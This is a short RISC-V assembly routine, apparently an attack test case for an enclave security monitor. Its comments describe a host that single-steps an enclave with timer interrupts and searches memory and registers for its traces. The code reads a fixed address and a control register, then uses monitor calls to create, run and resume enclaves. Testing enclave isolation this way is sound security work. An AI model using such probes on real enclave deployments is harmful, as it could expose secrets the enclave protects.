# The timer interrupts the enclave before each of its instructions. The host looks for traces of the enclave in memory
# and registers, runs a second enclave, and resumes the first.
attack: li    t5, 0x80020100
        lw    t4, 0(t5)
        csrrs t0, sscratch, zero
        li    a6, 1                     # create a second enclave, without code
        li    a0, 0x80030000
        li    a1, 4096
        li    a2, 0
        li    a3, 0
        li    a4, 0x80030000
        ecall
        li    a6, 3
        li    a0, 1
        ecall
        li    a6, 4                     # resume the first enclave
        li    a0, 0
        ecall
end:    jal   zero, end
